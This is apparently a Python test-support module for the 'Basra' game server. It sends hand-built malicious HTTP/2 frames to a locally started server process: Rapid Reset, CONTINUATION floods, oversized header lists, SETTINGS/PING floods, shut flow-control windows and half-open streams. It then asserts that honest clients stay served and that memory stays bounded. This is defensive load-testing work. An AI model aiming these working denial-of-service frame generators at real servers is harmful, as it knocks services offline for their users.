"""HTTP/2 abuse against a real server process with the shipped limits, from another address
(127.0.0.2) than an honest client (127.0.0.1), shared by the abuse tests (a few connections in
``make test``, 250 and 500 in the load tier) and ``tests.bench.abuse_bench``.

The frames are written by hand (``tests.halfopen``), as no well-behaved client can send them.
The honest client plays a match over Connect on the attacked port and reads it on the gRPC
port, every call within ``HONEST_DEADLINE_S`` (a call that takes longer fails).
"""

from __future__ import annotations

import asyncio
import contextlib
import struct
import subprocess
import threading
import time
import urllib.request
import uuid
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Final, TypeVar

import grpc
from connectrpc.code import Code
from connectrpc.errors import ConnectError
from pyqwest import HTTPVersion, SyncClient, SyncHTTPTransport

from basra.v1 import basra_service_pb2 as pb
from basra.v1 import basra_service_pb2_grpc as pb_grpc
from basra.v1 import game_pb2
from basra.v1.basra_service_connect import BasraServiceClientSync
from tests import halfopen
from tests.halfopen import (
    ACK,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    SETTINGS_INITIAL_WINDOW_SIZE,
    frame,
    read_frame,
    request_headers,
    rss_bytes,
)
from tests.support import free_port, serve_process, wait_until

POD_LIMIT: Final = 512 * 2**20
"""deploy/kustomize/base/deployment.yaml's memory limit."""
PEAK_LIMIT: Final = int(0.9 * POD_LIMIT)
"""The most a server under attack may hold: 90 % of the pod's limit."""
ATTACKER: Final = "127.0.0.2"
HONEST_DEADLINE_S: Final = 1.0
"""Each honest call's deadline during an attack (a Play answered later has failed): the target
the load tier and ``make bench`` hold the server to."""
ANSWERED_S: Final = 30.0
"""Each honest call's deadline in ``make test``, which asserts that honest calls are answered
(none refused, none cancelled) on a machine that may be loaded, not how fast."""
CONTINUATION: Final = 0x9
Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter, str], Awaitable[None]]
T = TypeVar("T")


@dataclass(frozen=True)
class Served:
    """A server process with the shipped limits (the embedded store) and its ports."""

    process: subprocess.Popen[bytes]
    port: int
    http_port: int
    metrics_port: int
    deadline_s: float = HONEST_DEADLINE_S
    """Each honest call's deadline against it."""

    @property
    def rss(self) -> int:
        return rss_bytes(self.process.pid)

    def metric(self, name: str) -> float:
        """A sample's value on the metrics port (``name`` with its labels, as exported)."""
        url = f"http://127.0.0.1:{self.metrics_port}/metrics"
        with urllib.request.urlopen(url, timeout=10) as response:
            for line in response.read().decode().splitlines():
                if line.startswith(name + " "):
                    return float(line.rpartition(" ")[2])
        raise AssertionError(f"no sample {name}")

    @property
    def calls_in_flight(self) -> float:
        """Calls the server holds on either port (``basra_calls_in_flight``)."""
        return self.metric('basra_calls_in_flight{port="http"}') + self.metric(
            'basra_calls_in_flight{port="grpc"}'
        )


class PeakPastLimitError(AssertionError):
    """The server's RSS under attack passed ``PEAK_LIMIT``, 90 % of the pod's memory limit."""


def _within_the_limit(peak: int) -> None:
    if peak >= PEAK_LIMIT:
        raise PeakPastLimitError(f"peak RSS {peak >> 20} MiB, past 90 % of the pod's limit")


class MemoryKeptError(AssertionError):
    """The server's RSS did not come back within ``KEPT`` of where it was once the attackers
    left (the one assertion of ``withstand`` a test may expect to fail: see its callers)."""


@contextlib.contextmanager
def serving(
    tmp_path: Path,
    files: int | None = None,
    http2: bool = True,
    flags: tuple[str, ...] = (),
    deadline_s: float = HONEST_DEADLINE_S,
) -> Iterator[Served]:
    """A server process with the shipped limits, until the block ends (``files``: the most
    file descriptors it may open, else this process's limit). ``http2``: its HTTP port speaks
    cleartext HTTP/2 too (``--http2-cleartext``, for a gateway that speaks it to the pods),
    the surface the HTTP/2 attacks test; else HTTP/1.1 alone, as shipped. ``flags``: settings
    of ``basra-engine serve`` in place of the shipped ones. ``deadline_s``: each honest call's
    deadline against it (``ANSWERED_S`` in ``make test``)."""
    port, http_port, metrics_port = free_port(), free_port(), free_port()
    with serve_process(
        tmp_path / "serve.log",
        port,
        *("--http-listen", f"127.0.0.1:{http_port}"),
        *("--metrics-port", str(metrics_port), "--log-level", "ERROR"),
        *(("--http2-cleartext",) if http2 else ()),
        *flags,
        files=files,
    ) as process:
        yield Served(process, port, http_port, metrics_port, deadline_s)


# -- The attacks: each writes its frames on one connection, then holds it, reading nothing ----


async def _preface(writer: asyncio.StreamWriter, window: int | None = None) -> None:
    settings = b"" if window is None else struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, window)
    writer.write(PREFACE + frame(SETTINGS, 0, 0, settings) + settings)
    await writer.drain()


async def rapid_reset(reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str) -> None:
    """HEADERS then RST_STREAM, stream after stream (CVE-2023-44487)."""
    await _preface(w)
    headers = request_headers(host, "/basra.v1.BasraService/GetMatch", "application/proto")
    for n in range(2000):
        stream = 2 * n + 1
        w.write(frame(HEADERS, END_HEADERS, stream, headers) + headers)
        w.write(frame(RST_STREAM, 0, stream, b"\x00\x00\x00\x08") + b"\x00\x00\x00\x08")
        if n % 50 == 0:
            await w.drain()


async def continuation_flood(
    reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str
) -> None:
    """HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB (CVE-2024-27316)."""
    await _preface(w)
    headers = request_headers(host, "/basra.v1.BasraService/GetMatch", "application/proto")
    w.write(frame(HEADERS, 0, 1, headers) + headers)
    block = b"\x00\x01a\x7f\x81\x7f" + b"a" * (16384 - 6)  # a literal that never ends
    for _ in range(62):
        w.write(frame(CONTINUATION, 0, 1, block) + block)
        await w.drain()


async def header_list_past_the_limit(
    reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str
) -> None:
    """Requests whose header list is larger than the server's MAX_HEADER_LIST_SIZE."""
    await _preface(w)
    base = request_headers(host, "/basra.v1.BasraService/GetMatch", "application/proto")
    value = b"v" * 120
    big = base + b"".join(
        b"\x00\x02x" + bytes((n % 10 + 48,)) + b"\x78" + value for n in range(600)
    )
    for n in range(8):
        stream = 2 * n + 1
        for offset in range(0, len(big), 16384):
            piece = big[offset : offset + 16384]
            last = offset + 16384 >= len(big)
            kind = HEADERS if offset == 0 else CONTINUATION
            w.write(frame(kind, END_HEADERS if last else 0, stream, piece) + piece)
        await w.drain()


async def settings_and_ping_flood(
    reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str
) -> None:
    """SETTINGS and PING frames, each asking for an acknowledgement, never reading one."""
    await _preface(w)
    for n in range(2000):
        w.write(frame(SETTINGS, 0, 0) + frame(PING, 0, 0, struct.pack(">Q", n)))
        w.write(struct.pack(">Q", n))
        if n % 100 == 0:
            await w.drain()


async def window_never_opens(
    reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str
) -> None:
    """Whole requests from a client whose flow-control window never opens: no answer can be
    written to it."""
    await _preface(w, window=0)
    headers = request_headers(host, "/basra.v1.BasraService/ListRules", "application/proto")
    for n in range(16):
        stream = 2 * n + 1
        w.write(frame(HEADERS, END_HEADERS, stream, headers) + headers)
        w.write(frame(DATA, END_STREAM, stream))
    await w.drain()


async def half_open(reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str) -> None:
    """Requests whose headers and one byte of body arrive, then nothing."""
    await _preface(w)
    headers = request_headers(host, "/basra.v1.BasraService/GetMatch", "application/proto")
    for n in range(16):
        stream = 2 * n + 1
        w.write(frame(HEADERS, END_HEADERS, stream, headers) + headers)
        w.write(frame(DATA, 0, stream, b"\x00") + b"\x00")
    await w.drain()


async def idle(reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str) -> None:
    """A connection that sends its preface and nothing more."""
    await _preface(w)


async def silent(reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str) -> None:
    """A connection that sends nothing at all (with cleartext HTTP/2 on, granian times none
    out: the HTTP port serves ``connections_served_at_once`` of them, and a new connection past
    them waits)."""


ATTACKS: Final[dict[str, Attack]] = {
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "header_list_past_the_limit": header_list_past_the_limit,
    "settings_and_ping_flood": settings_and_ping_flood,
    "window_never_opens": window_never_opens,
    "half_open": half_open,
    "idle": idle,
    "silent": silent,
}


class ClientThread:
    """Client connections made by ``_connections`` in an event loop of a thread of their own,
    from ``start`` until ``stop`` sets ``_stop`` and waits for them to close."""

    def __init__(self, what: str) -> None:
        self._what = what
        self._ready = threading.Event()
        self._loop: asyncio.AbstractEventLoop | None = None
        self._stop: asyncio.Event | None = None
        self._thread = threading.Thread(target=asyncio.run, args=(self._run(),), daemon=True)

    async def _run(self) -> None:
        self._loop, self._stop = asyncio.get_running_loop(), asyncio.Event()
        self._ready.set()
        await self._connections()

    async def _connections(self) -> None:
        raise NotImplementedError

    def start(self) -> None:
        self._thread.start()
        assert self._ready.wait(10)

    def stop(self) -> None:
        """Close every connection and wait for the thread."""
        if self._loop is not None and self._stop is not None and self._thread.is_alive():
            self._loop.call_soon_threadsafe(self._stop.set)
        self._thread.join(60)
        assert not self._thread.is_alive(), f"the {self._what} did not let go"


class Attackers(ClientThread):
    """``connections`` connections from 127.0.0.2, each running one attack, in a thread of
    their own until ``stop``."""

    def __init__(self, port: int, connections: int, attack: Attack) -> None:
        self.connections = connections
        self.opened = 0
        """Connections the server accepted (or refused: they count once tried)."""
        self.sent = 0
        """Connections whose attack has written all it will (or whose connection was closed)."""
        self._port = port
        self._attack = attack
        super().__init__("attackers")

    async def _connections(self) -> None:
        await asyncio.gather(*(self._one() for _ in range(self.connections)))

    async def _one(self) -> None:
        assert self._stop is not None
        try:
            reader, writer = await asyncio.open_connection(
                "127.0.0.1", self._port, local_addr=(ATTACKER, 0)
            )
        except OSError:
            self.opened += 1
            self.sent += 1
            return
        self.opened += 1
        try:
            with contextlib.suppress(ConnectionError):
                await self._attack(reader, writer, f"127.0.0.1:{self._port}")
            self.sent += 1
            await self._stop.wait()  # hold the connection, reading nothing
        finally:
            writer.close()
            with contextlib.suppress(ConnectionError):
                await writer.wait_closed()

    @property
    def sending(self) -> bool:
        return self.sent < self.connections


@contextlib.contextmanager
def attacking(port: int, connections: int, attack: Attack) -> Iterator[Attackers]:
    """``attack`` on ``connections`` connections until the block ends, once all are open."""
    attackers = Attackers(port, connections, attack)
    attackers.start()
    try:
        wait_until(lambda: attackers.opened == connections, 60, "the attacking connections opened")
        yield attackers
    finally:
        attackers.stop()


# -- The honest client -------------------------------------------------------------------------


class Honest:
    """A person playing a match over Connect (HTTP/2, or HTTP/1.1 with ``http2`` false) from
    127.0.0.1, each call within the server's ``deadline_s``: a call that fails or takes
    longer raises."""

    def __init__(self, served: Served, http2: bool = True) -> None:
        self._deadline_s = served.deadline_s
        version = HTTPVersion.HTTP2 if http2 else HTTPVersion.HTTP1
        self._transport = SyncHTTPTransport(http_version=version)
        self._http = SyncClient(self._transport)
        self._health = f"http://127.0.0.1:{served.http_port}/healthz"
        self._connect = BasraServiceClientSync(
            f"http://127.0.0.1:{served.http_port}",
            http_client=self._http,
            timeout_ms=int(self._deadline_s * 1000),
        )
        self._channel = grpc.insecure_channel(f"127.0.0.1:{served.port}")
        self._grpc = pb_grpc.BasraServiceStub(self._channel)
        self._match = ""
        self._tokens: dict[int, str] = {}
        self._new_match()
        self.plays = 0

    def _new_match(self) -> None:
        created = self._connect.create_match(pb.CreateMatchRequest(request_id=str(uuid.uuid4())))
        self._match = created.match_id
        self._tokens = {token.seat: token.token for token in created.seat_tokens}

    def _auth(self, seat: int) -> dict[str, str]:
        return {"authorization": f"Bearer {self._tokens[seat]}"}

    def ready(self) -> bool:
        """Whether GET /healthz answers 200 (within the deadline)."""
        response = self._http.get(self._health, timeout=self._deadline_s)
        return bool(response.status == 200)

    def play(self) -> None:
        """One play over Connect (the match read, the seat's plans, the play) and the match
        read on the gRPC port; a hand that is over is dealt again, a match that is over
        followed by a new one."""
        view = self._connect.get_match(
            pb.GetMatchRequest(match_id=self._match), headers=self._auth(0)
        ).view
        if view.status == game_pb2.MATCH_STATUS_MATCH_OVER:
            self._new_match()  # a long attack outlasts a match
            return
        if view.status == game_pb2.MATCH_STATUS_HAND_OVER:
            self._connect.deal(
                pb.DealRequest(match_id=self._match, request_id=str(uuid.uuid4())),
                headers=self._auth(0),
            )
            return
        assert view.status == game_pb2.MATCH_STATUS_PLAYING, view.status
        seat = view.turn
        plans = self._connect.list_plans(
            pb.ListPlansRequest(match_id=self._match), headers=self._auth(seat)
        ).cards
        self._connect.play(
            pb.PlayRequest(
                match_id=self._match,
                card=plans[0].card,
                plan_id=1 if plans[0].plans else 0,
                request_id=str(uuid.uuid4()),
            ),
            headers=self._auth(seat),
        )
        self._grpc.GetMatch(
            pb.GetMatchRequest(match_id=self._match),
            metadata=tuple(self._auth(seat).items()),
            timeout=self._deadline_s,
        )
        self.plays += 1

    def close(self) -> None:
        self._channel.close()
        self._transport.close()


class PeakRss:
    """The highest resident set size of a process, sampled from /proc in a thread until
    ``stop``."""

    def __init__(self, pid: int) -> None:
        self.peak = rss_bytes(pid)
        self._pid = pid
        self._done = threading.Event()
        self._thread = threading.Thread(target=self._sample, daemon=True)
        self._thread.start()

    def _sample(self) -> None:
        while not self._done.wait(0.02):
            with contextlib.suppress(OSError, RuntimeError):
                self.peak = max(self.peak, rss_bytes(self._pid))

    def stop(self) -> int:
        self._done.set()
        self._thread.join(5)
        return self.peak


ROUNDS: Final = 5
"""Plays the honest client makes during an attack, at least (more while attackers still send)."""
MOST_ROUNDS: Final = 100
KEPT: Final = 64 * 2**20
"""What a server may keep, above what it held before, once the attackers have left: memory its
allocators keep for reuse."""


class HonestCallLateError(AssertionError):
    """An honest call was not answered within its deadline (its deadline, or its client's
    timeout, passed first)."""


class HonestCallCancelledError(AssertionError):
    """An honest gRPC call ended CANCELLED: the server gave it up before answering."""


@contextlib.contextmanager
def on_time(what: str, deadline_s: float = HONEST_DEADLINE_S) -> Iterator[None]:
    """The honest calls of the block: one answered late raises HonestCallLateError, one the
    server cancelled HonestCallCancelledError (any other failure, a refusal included, raises as
    it is)."""
    try:
        yield
    except (ConnectError, grpc.RpcError, TimeoutError) as exc:
        if isinstance(exc, grpc.RpcError) and exc.code() == grpc.StatusCode.CANCELLED:
            raise HonestCallCancelledError(f"an honest call {what} was cancelled") from exc
        if isinstance(exc, ConnectError) and exc.code != Code.DEADLINE_EXCEEDED:
            raise
        if isinstance(exc, grpc.RpcError) and exc.code() != grpc.StatusCode.DEADLINE_EXCEEDED:
            raise
        raise HonestCallLateError(
            f"an honest call {what} was not answered within {deadline_s:g} s"
        ) from exc


def withstand(served: Served, name: str, connections: int) -> int:
    """Attack ``served`` with ``name`` on ``connections`` connections while an honest client
    plays; assert what every abuse class must leave true, and return the peak RSS:

    - every honest call (Connect on the attacked port, gRPC on the other) is answered, none
      refused, each within ``HONEST_DEADLINE_S``, and /healthz (over HTTP/2) says ready;
    - the server's peak RSS stays under 90 % of the pod's memory limit;
    - once the attackers leave, no call of theirs keeps running (``basra_calls_in_flight``
      back to 0) and the RSS comes back down (within ``KEPT`` of what it was before).
    """
    honest = Honest(served)
    try:
        honest.play()
        base = served.rss
        sampler = PeakRss(served.process.pid)
        try:
            with attacking(served.http_port, connections, ATTACKS[name]) as attackers:
                rounds = 0
                while rounds < ROUNDS or (attackers.sending and rounds < MOST_ROUNDS):
                    with on_time(f"during {name} on {connections} connections", served.deadline_s):
                        honest.play()
                        ready = honest.ready()
                    assert ready, "/healthz said not ready during the attack"
                    rounds += 1
        finally:
            peak = sampler.stop()
        _within_the_limit(peak)
        wait_until(lambda: served.calls_in_flight == 0, 30, "the attack's calls to end")
        with on_time(f"after {name} on {connections} connections", served.deadline_s):
            honest.play()
            ready = honest.ready()
        assert ready
        try:
            wait_until(
                lambda: served.rss <= base + KEPT,
                30,
                f"the RSS to come back within {KEPT >> 20} MiB of {base >> 20} MiB",
            )
        except AssertionError as exc:
            raise MemoryKeptError(str(exc)) from None
        return peak
    finally:
        honest.close()


HOLDING_MOST: Final = (
    "rapid_reset",
    "continuation_flood",
    "header_list_past_the_limit",
    "window_never_opens",
    "half_open",
)
"""The classes whose waves are tested (``withstand_waves``): those whose peak is highest at 250
and 500 connections (Rapid Reset, header lists past the limit, a window that never opens,
half-open requests), and the CONTINUATION flood, the one whose header blocks hyper buffers."""
WAVES: Final = 4
"""Waves of one attack against one server process in ``withstand_waves``."""
RATCHET_FLOOR: Final = 4 * 2**20
"""How far above the RSS once the first of ``WAVES`` waves has left the RSS must come back to
once the last has: 4 MiB (the RSS of a quiet process moves by about 1 MiB). Right after each wave
the allocators still hold what it took, so the RSS grows wave after wave at first (four waves of
a shut window at 500 connections end at 155 MiB from 134 after the first); granian's jemalloc,
with its background thread, gives it back within seconds (ten seconds later: 103 MiB), where
left to its defaults it keeps it for good (155 MiB a minute later)."""
RATCHET_WAIT_S: Final = 30.0
"""How long the RSS may take to come back after the last wave (jemalloc purges what it freed
within about ten seconds)."""


class MemoryRatchetError(AssertionError):
    """The RSS did not come back, within ``RATCHET_WAIT_S`` of the last wave of an attack, to
    within ``RATCHET_FLOOR`` of the RSS after the first: waves left memory behind for good."""


def withstand_waves(served: Served, name: str, connections: int, waves: int = WAVES) -> list[int]:
    """Attack ``served`` with ``name`` on ``connections`` connections in ``waves`` waves, the
    attackers leaving after each: every wave must leave true what ``withstand`` asserts, and the
    RSS once the last wave's attackers have left must come back, within ``RATCHET_WAIT_S``, to
    within ``RATCHET_FLOOR`` of the RSS once the first's had. Returns the RSS after each
    wave."""
    before = served.rss
    kept: list[int] = []
    for _ in range(waves):
        withstand(served, name, connections)
        kept.append(served.rss)
    try:
        wait_until(
            lambda: served.rss <= kept[0] + RATCHET_FLOOR, RATCHET_WAIT_S, "the RSS to come back"
        )
    except AssertionError:
        after = ", ".join(f"{rss >> 20}" for rss in kept)
        raise MemoryRatchetError(
            f"the RSS after each of {waves} waves of {name} on {connections} connections was "
            f"{after} MiB (from {before >> 20} MiB), and {served.rss >> 20} MiB "
            f"{RATCHET_WAIT_S:g} s after the last: more than {RATCHET_FLOOR >> 20} MiB above "
            "the first"
        ) from None
    return kept


# -- The gRPC port -----------------------------------------------------------------------------

RESET_BATCH: Final = 100
"""Streams a Rapid Reset connection on the gRPC port opens at once before resetting them."""


def _reset(stream: int) -> bytes:
    code = b"\x00\x00\x00\x08"  # CANCEL, as a client that gave up sends
    return frame(RST_STREAM, 0, stream, code) + code


async def _acknowledge(reader: asyncio.StreamReader, w: asyncio.StreamWriter) -> None:
    """Acknowledge the server's SETTINGS and PINGs, as any client must to keep its connection,
    and read the rest (the server's answers to the reset streams)."""
    with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError):
        while True:
            kind, flags, _, payload = await read_frame(reader)
            if kind == SETTINGS and not flags & ACK:
                w.write(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                w.write(frame(PING, ACK, 0, payload) + payload)


def grpc_rapid_reset_for(seconds: float) -> Attack:
    """Rapid Reset on the gRPC port (CVE-2023-44487) for ``seconds``: ``RESET_BATCH`` gRPC
    requests' HEADERS, then a RST_STREAM for each, batch after batch: never more streams open
    at once than the shipped MAX_CONCURRENT_STREAMS, so nothing the protocol bounds is
    exceeded."""

    async def attack(reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str) -> None:
        until = time.monotonic() + seconds
        await _preface(w)
        acknowledging = asyncio.ensure_future(_acknowledge(reader, w))
        try:
            headers = request_headers(host, "/basra.v1.BasraService/GetMatch")
            first = 1
            while time.monotonic() < until:
                streams = range(first, first + 2 * RESET_BATCH, 2)
                w.write(
                    b"".join(frame(HEADERS, END_HEADERS, s, headers) + headers for s in streams)
                )
                w.write(b"".join(_reset(s) for s in streams))
                await w.drain()
                await asyncio.sleep(0)  # every connection attacks at once, not the first few
                first += 2 * RESET_BATCH
        finally:
            acknowledging.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await acknowledging

    return attack


class HonestGrpc:
    """A person playing a match on the gRPC port from 127.0.0.1 (CreateMatch, then GetMatch,
    ListPlans and Play, a new hand dealt and a new match made when one ends), each call within
    ``deadline_s`` (the server's unless given): a call that fails or takes longer raises.
    ``plays`` holds each Play's seconds (``make bench`` reads them; the tests time nothing)."""

    def __init__(self, served: Served, deadline_s: float | None = None) -> None:
        self._deadline_s = served.deadline_s if deadline_s is None else deadline_s
        self._channel = grpc.insecure_channel(f"127.0.0.1:{served.port}")
        self._stub = pb_grpc.BasraServiceStub(self._channel)
        self._match = ""
        self._tokens: dict[int, str] = {}
        self.plays: list[float] = []
        self._new_match()

    def _new_match(self) -> None:
        created = self._stub.CreateMatch(
            pb.CreateMatchRequest(request_id=str(uuid.uuid4())), timeout=self._deadline_s
        )
        self._match = created.match_id
        self._tokens = {token.seat: token.token for token in created.seat_tokens}

    def _auth(self, seat: int) -> tuple[tuple[str, str]]:
        return (("authorization", f"Bearer {self._tokens[seat]}"),)

    def play(self) -> None:
        """One turn: the match read, then the seat's plans and a play (or the next hand or
        match, when one is over)."""
        view = self._stub.GetMatch(
            pb.GetMatchRequest(match_id=self._match),
            metadata=self._auth(0),
            timeout=self._deadline_s,
        ).view
        if view.status == game_pb2.MATCH_STATUS_MATCH_OVER:
            self._new_match()
            return
        if view.status == game_pb2.MATCH_STATUS_HAND_OVER:
            self._stub.Deal(
                pb.DealRequest(match_id=self._match, request_id=str(uuid.uuid4())),
                metadata=self._auth(0),
                timeout=self._deadline_s,
            )
            return
        assert view.status == game_pb2.MATCH_STATUS_PLAYING, view.status
        seat = view.turn
        plans = self._stub.ListPlans(
            pb.ListPlansRequest(match_id=self._match),
            metadata=self._auth(seat),
            timeout=self._deadline_s,
        ).cards
        started = time.perf_counter()
        self._stub.Play(
            pb.PlayRequest(
                match_id=self._match,
                card=plans[0].card,
                plan_id=1 if plans[0].plans else 0,
                request_id=str(uuid.uuid4()),
            ),
            metadata=self._auth(seat),
            timeout=self._deadline_s,
        )
        self.plays.append(time.perf_counter() - started)

    def close(self) -> None:
        self._channel.close()


def _memory_back(served: Served, base: int, what: str) -> None:
    """Raise MemoryKeptError unless the RSS comes back within ``KEPT`` of ``base`` within 30 s."""
    try:
        wait_until(
            lambda: served.rss <= base + KEPT,
            30,
            f"the RSS to come back within {KEPT >> 20} MiB of {base >> 20} MiB after {what}",
        )
    except AssertionError as exc:
        raise MemoryKeptError(str(exc)) from None


def withstand_rapid_reset_on_grpc(served: Served, connections: int, seconds: float) -> int:
    """Rapid Reset on ``served``'s gRPC port from ``connections`` connections, each sending for
    ``seconds``, while an honest client plays there; assert what ``withstand`` asserts of the
    HTTP port's attacks: every honest call answered (none cancelled or refused), each within
    ``HONEST_DEADLINE_S``; the peak RSS under 90 % of the pod's limit; once the attackers leave,
    no call of theirs left running and the RSS back within ``KEPT`` of where it was. Returns the
    peak RSS."""
    what = f"Rapid Reset on the gRPC port on {connections} connections"
    attack = attacking(served.port, connections, grpc_rapid_reset_for(seconds))
    return _played_through(served, what, attack, lambda attackers: attackers.sending)


def _played_through(
    served: Served,
    what: str,
    attack: contextlib.AbstractContextManager[T],
    sending: Callable[[T], bool],
) -> int:
    """An honest gRPC player's turns through ``attack`` (``ROUNDS`` at least, more while
    ``sending`` says the attack still sends): each on time, the peak RSS within the limit, then
    the attack's calls ended, a turn after it and the memory given back. Returns the peak."""
    honest = HonestGrpc(served)
    try:
        honest.play()
        base = served.rss
        sampler = PeakRss(served.process.pid)
        try:
            with attack as running:
                rounds = 0
                while rounds < ROUNDS or (sending(running) and rounds < MOST_ROUNDS):
                    with on_time(f"during {what}", served.deadline_s):
                        honest.play()
                    rounds += 1
        finally:
            peak = sampler.stop()
        _within_the_limit(peak)
        wait_until(lambda: served.calls_in_flight == 0, 30, "the attack's calls to end")
        with on_time(f"after {what}", served.deadline_s):
            honest.play()
        _memory_back(served, base, what)
        return peak
    finally:
        honest.close()


@contextlib.contextmanager
def half_open_flood(
    ports: list[tuple[int, str]], connections: int, streams: int
) -> Iterator[halfopen.Attack]:
    """``connections`` x ``streams`` half-open requests (``tests.halfopen``) from 127.0.0.2 on
    each of ``ports`` (a port and its calls' content type), in a thread of their own, held until
    the block ends."""
    attack = halfopen.Attack()
    started = threading.Event()
    loop: list[asyncio.AbstractEventLoop] = []
    stop: list[asyncio.Event] = []

    async def run() -> None:
        loop.append(asyncio.get_running_loop())
        stop.append(asyncio.Event())
        started.set()
        await asyncio.gather(
            *(
                halfopen.half_open(
                    "127.0.0.1",
                    port,
                    connections,
                    streams,
                    stop[0],
                    attack,
                    "/basra.v1.BasraService/GetMatch",
                    kind,
                    source=ATTACKER,
                )
                for port, kind in ports
            )
        )

    thread = threading.Thread(target=asyncio.run, args=(run(),), daemon=True)
    thread.start()
    assert started.wait(10)
    try:
        yield attack
    finally:
        loop[0].call_soon_threadsafe(stop[0].set)
        thread.join(60)
        assert not thread.is_alive(), "the half-open connections were not let go"


def flood_ended(attack: halfopen.Attack, streams: int) -> bool:
    """Whether the server has let go of every one of ``streams`` half-open streams: ended it, or
    closed its connection."""
    return attack.opened == streams and attack.answered + attack.dropped == attack.opened


def withstand_half_open_on_grpc(
    served: Served, connections: int, streams: int, both: bool = False
) -> int:
    """Half-open requests on ``served``'s gRPC port (``both``: on its HTTP port too, as
    Connect), ``connections`` x ``streams`` on each, while an honest client plays on the gRPC
    port until the server has let go of every half-open stream; assert every honest call
    answered within ``HONEST_DEADLINE_S``, the peak RSS under 90 % of the pod's limit, and the
    RSS back within ``KEPT`` of where it was within 30 s of the flood's end. Returns the peak
    RSS."""
    ports = [(served.port, "application/grpc")]
    if both:
        ports.append((served.http_port, "application/proto"))
    what = f"half-open requests, {connections} x {streams} on {len(ports)} port(s)"
    total = len(ports) * connections * streams
    return _played_through(
        served,
        what,
        half_open_flood(ports, connections, streams),
        lambda attack: not flood_ended(attack, total),
    )
